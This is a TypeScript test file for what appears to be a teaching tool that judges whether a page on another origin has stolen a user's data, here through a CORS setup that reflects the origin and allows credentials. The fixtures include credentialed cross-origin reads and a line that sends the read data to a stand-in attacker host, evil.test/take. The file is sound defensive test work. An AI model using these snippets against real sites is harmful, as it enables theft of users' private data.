import { describe, expect, test } from 'vitest'
import { type DocumentParts, documentOf } from '@/lib/document/document-of.ts'
import { runInNode } from '@/lib/run/run-in-node.ts'
import { explain } from '../why/explanation.ts'
import { breachOf, firstBreach } from './breach.ts'
import { threeQuestions } from './questions.ts'

const API = 'https://api.shop.example'
const READ = `const answer = await fetch("${API}/orders", { credentials: "include" })\nawait answer.text()\n`
const MIRROR = `GET /orders
200
Access-Control-Allow-Origin: {origin}
Access-Control-Allow-Credentials: true
Vary: Origin

order 7: a red lamp
`
const LAMP = { wants: 'a red lamp', whose: 'Sara' }

const run = (parts: Partial<DocumentParts> = {}) =>
  runInNode(
    documentOf({
      page: 'https://evil.test/',
      code: READ,
      servers: { [API]: MIRROR },
      cookies: { [API]: 'session=sara' },
      ...parts,
    }),
  )

describe('a page that is nobody’s mistake', () => {
  test('evil.test that reads with the user’s cookies has stolen the user’s data', async () => {
    expect(breachOf(await run(), 1)).toEqual({ call: 1, how: 'read', reader: 'evil.test', data: 'the user’s data' })
  })

  test.each(['https://evilshop.example/', 'https://shop.example.evil.test/', 'https://attacker.example/'])(
    '%s belongs to a stranger by its name',
    async (page) => {
      expect(firstBreach(await run({ page }))?.reader).toBe(new URL(page).host)
    },
  )

  test.each(['https://shop.example/', 'https://devil.example/', 'https://medieval.test/'])(
    '%s does not',
    async (page) => {
      expect(firstBreach(await run({ page }))).toBeNull()
    },
  )

  test('who reads over http is named with the scheme, which may belong to somebody else', async () => {
    expect(firstBreach(await run({ page: 'http://shop.example/', stranger: LAMP }))?.reader).toBe('http://shop.example')
  })

  test('a page of any name belongs to a stranger where the document says so', async () => {
    const trace = await run({ page: 'https://wwwxshop.example/', stranger: LAMP })
    expect(firstBreach(trace)).toEqual({ call: 1, how: 'read', reader: 'wwwxshop.example', data: 'Sara’s data' })
    expect(threeQuestions(trace, 1).read).toMatchObject({ answer: 'Yes: Sara’s data is stolen', tone: 'danger' })
  })
})

describe('a stranger’s page has stolen nothing', () => {
  test('where the browser keeps the answer', async () => {
    const trace = await run({ servers: { [API]: 'GET /orders\n200\n\norder 7: a red lamp' } })
    expect(firstBreach(trace)).toBeNull()
    expect(threeQuestions(trace, 1).read.tone).toBe('stop')
  })

  test('where the answer is the same for everybody: no cookie was sent', async () => {
    const trace = await run({ code: `await fetch("${API}/orders")` })
    expect(firstBreach(trace)).toBeNull()
    expect(threeQuestions(trace, 1).read).toMatchObject({ answer: 'Yes', tone: 'go' })
  })

  test('where the answer is an error', async () => {
    expect(firstBreach(await run({ servers: { [API]: MIRROR.replace('200', '403') } }))).toBeNull()
  })

  test('where it reads its own server', async () => {
    const own = { 'https://evil.test': 'GET /own\n200\n\nmine' }
    const trace = await run({ code: 'await fetch("/own")', servers: own, cookies: { 'https://evil.test': 'a=1' } })
    expect(firstBreach(trace)).toBeNull()
  })
})

describe('where the document says what is to be read', () => {
  test('it is stolen without a cookie too', async () => {
    const trace = await run({ code: `await fetch("${API}/orders")`, stranger: LAMP })
    expect(firstBreach(trace)?.reader).toBe('evil.test')
  })

  test('another answer that was read with the cookies is not it', async () => {
    expect(firstBreach(await run({ stranger: { wants: 'a blue lamp' } }))).toBeNull()
  })

  test.each([
    ['printed by the script', 'console.log("a red lamp")'],
    ['in a data: URL', 'await (await fetch("data:text/plain,a red lamp")).text()'],
    ['in a Response of its own', 'await new Response("a red lamp").text()'],
    ['in a blob: URL', 'await (await fetch(URL.createObjectURL(new Blob(["a red lamp"])))).text()'],
  ])('words that are %s were not read', async (_, code) => {
    expect(firstBreach(await run({ code, stranger: LAMP }))).toBeNull()
  })

  test.each([
    ['in its address', `await fetch("${API}/echo?a+red%20lamp")`],
    ['in its body', `await fetch("${API}/echo", { method: "POST", body: "a red lamp" })`],
  ])('words that the script has sent %s, and a server repeats, were not read', async (_, code) => {
    const echo = `${MIRROR}\nGET /echo\n200\nAccess-Control-Allow-Origin: *\n\na red lamp\n\nPOST /echo\n200\nAccess-Control-Allow-Origin: *\n\na red lamp`
    expect(firstBreach(await run({ code, servers: { [API]: echo }, stranger: LAMP }))).toBeNull()
  })

  test('it is stolen where the browser had a copy of it, too', async () => {
    const kept = MIRROR.replace('\n\norder', '\nCache-Control: max-age=60\n\norder')
    const trace = await run({
      code: `${READ}${READ.replaceAll('answer', 'again')}`,
      servers: { [API]: kept },
      stranger: LAMP,
    })
    expect(trace.some((e) => e.type === 'response' && e.from === 'http-cache')).toBe(true)
    expect(breachOf(trace, 2)).not.toBeNull()
  })

  test('it is stolen in any call of the run', async () => {
    const trace = await run({ code: `await fetch("${API}/nothing").catch(() => {})\n${READ}`, stranger: LAMP })
    expect(firstBreach(trace)?.call).toBe(2)
  })
})

describe('a document of somebody else that a stranger’s page opens', () => {
  const HELP = 'https://help.shop.example'
  const SEND = `fetch("https://evil.test/take?" + encodeURIComponent(text), { mode: "no-cors" })`
  const visit = (inHelp: string, stranger: DocumentParts['stranger'] = LAMP) =>
    run({
      stranger,
      code: `const frame = document.createElement("iframe")\nframe.src = "${HELP}/page"\ndocument.body.append(frame)\n`,
      servers: {
        [API]: MIRROR,
        [HELP]: `GET /page\n200\nContent-Type: text/html\n\n<script type="module">${inHelp}</script>`,
        'https://evil.test': 'GET /take\n204\n',
      },
    })
  const READ_IT = `const answer = await fetch("${API}/orders", { credentials: "include" }); const text = await answer.text();`

  test('has stolen nothing while it reads for itself', async () => {
    const trace = await visit(READ_IT)
    expect(threeQuestions(trace, 2).read).toMatchObject({ answer: 'Yes', tone: 'go' })
    expect(firstBreach(trace)).toBeNull()
  })

  test('has stolen what it has read and sends to the stranger, whatever the stranger’s server allows', async () => {
    const trace = await visit(`${READ_IT} ${SEND}`)
    expect(firstBreach(trace)).toEqual({ call: 3, how: 'sent', reader: 'evil.test', data: 'Sara’s data' })
    expect(threeQuestions(trace, 3).read).toMatchObject({ answer: 'No need: it carries Sara’s data', tone: 'danger' })
    const refused = await visit(`${READ_IT} ${SEND.replace('no-cors', 'cors')}.catch(() => {})`)
    expect(firstBreach(refused)?.call).toBe(3)
    expect(explain(refused, 3)?.paragraphs[0]).toMatch(/^\*\*Sara’s data was stolen by evil\.test\.\*\*/)
  })

  test('has stolen nothing where it sends words that it has not read, or sends them elsewhere', async () => {
    expect(firstBreach(await visit(`const text = "a red lamp"; ${SEND}`))).toBeNull()
    const elsewhere = `${READ_IT} ${SEND.replace('https://evil.test/take', `${HELP}/log`)}`
    expect(firstBreach(await visit(elsewhere))).toBeNull()
  })

  test('is the stranger’s own where it has no origin', async () => {
    const trace = await run({
      stranger: LAMP,
      code: `const frame = document.createElement("iframe")
frame.sandbox = "allow-scripts"
frame.srcdoc = ${JSON.stringify(`<script type="module">${READ_IT}</script>`)}
document.body.append(frame)\n`,
    })
    expect(firstBreach(trace)).toMatchObject({ how: 'read', reader: 'evil.test' })
  })
})
